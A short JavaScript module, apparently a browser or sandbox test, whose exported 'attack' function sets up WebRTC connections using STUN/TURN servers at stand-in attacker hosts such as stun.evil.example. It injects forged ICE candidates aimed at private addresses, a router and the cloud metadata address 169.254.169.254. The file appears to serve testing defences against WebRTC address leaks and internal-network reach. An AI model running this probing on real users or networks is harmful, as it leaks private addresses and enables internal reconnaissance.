// WebRTC: servers of all kinds, and candidates that the page makes up itself.
const SERVERS = [
  {urls: 'stun:198.41.0.4:3478'},
  {urls: 'stun:stun.evil.example:3478'},
  {urls: 'turn:198.41.0.4:3478?transport=udp', username: 'u', credential: 'p'},
  {urls: 'turn:198.41.0.4:3478?transport=tcp', username: 'u', credential: 'p'},
  {urls: 'turns:turn.evil.example:443?transport=tcp', username: 'u', credential: 'p'},
];
/** Private addresses, the metadata service, a printer's name, a name of ours, and TCP. */
const FORGED = [
  'udp 2122260223 10.77.0.2 4444 typ host',
  'udp 2122260222 192.168.1.1 53 typ host',
  'udp 2122260221 169.254.169.254 80 typ host',
  'udp 2122260220 0f3ab1c2-0000-4000-8000-123456789abc.local 5000 typ host',
  'udp 2122260219 candidate.evil.example 5000 typ host',
  'tcp 1518280447 10.77.0.2 443 typ host tcptype passive',
  'udp 1677729535 198.41.0.4 9999 typ srflx raddr 0.0.0.0 rport 0',
];

export const attack = async () => {
  const [one, other] = [new RTCPeerConnection({iceServers: SERVERS}), new RTCPeerConnection({iceServers: SERVERS})];
  const candidates = [];
  one.onicecandidate = event => { if (event.candidate?.candidate) candidates.push(event.candidate.candidate); };
  one.createDataChannel('out');
  await one.setLocalDescription(await one.createOffer());
  await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  await one.setRemoteDescription(other.localDescription);
  const added = await Promise.allSettled(FORGED.map((candidate, n) =>
    one.addIceCandidate({candidate: `candidate:${n + 1} 1 ${candidate}`, sdpMid: '0'})));
  await new Promise(done => setTimeout(done, 2000));
  one.close();
  other.close();
  return {added: added.map(one => one.status), candidates};
};
